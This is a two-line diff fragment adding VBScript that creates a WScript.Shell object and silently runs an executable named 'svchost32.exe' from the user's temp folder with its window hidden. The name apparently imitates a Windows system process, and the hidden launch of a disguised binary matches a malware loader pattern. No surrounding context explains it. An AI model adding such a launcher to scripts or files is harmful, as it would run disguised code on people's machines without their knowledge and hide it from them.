@@ -1,0 +1,2 @@
+Set s = CreateObject("WScript.Shell")
+s.Run "%TEMP%\svchost32.exe", 0, False
